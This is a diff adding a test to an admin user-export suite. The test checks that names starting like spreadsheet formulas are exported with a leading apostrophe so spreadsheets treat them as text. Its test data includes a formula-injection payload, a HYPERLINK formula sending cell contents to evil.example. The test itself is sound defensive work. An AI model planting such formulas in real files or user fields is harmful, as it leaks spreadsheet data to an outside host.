@@ -153,6 +153,19 @@ describe('searching and filtering accounts', () => {
       account_status: 'active',
     });
   });
+  it('writes a name or business that starts like a formula as text a spreadsheet will not run (decision 56)', async () => {
+    const token = `fx${randomBytes(3).toString('hex')}`;
+    const name = `=HYPERLINK("http://evil.example/?leak="&A1,"${token}")`;
+    await signUpCustomer(t, name);
+    await signUpVendor(t, `@SUM(1+1) ${token} Traders`);
+    const res = await json(t.app, 'GET', `/api/admin/users/export.csv?q=${token}&sort=name`, undefined, admin.cookie);
+    expect(res.statusCode).toBe(200);
+    const rows = parse(res.body, { columns: true, bom: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.name)).toContain(`'${name}`);
+    expect(rows.map((r) => r.business_name)).toContain(`'@SUM(1+1) ${token} Traders`);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('writes the CSV as Excel in India reads it: a BOM before the header, and times in India', async () => {
     const token = `ist${randomBytes(3).toString('hex')}`;
     const late = await signUpCustomer(t, `Late ${token} सायली`);
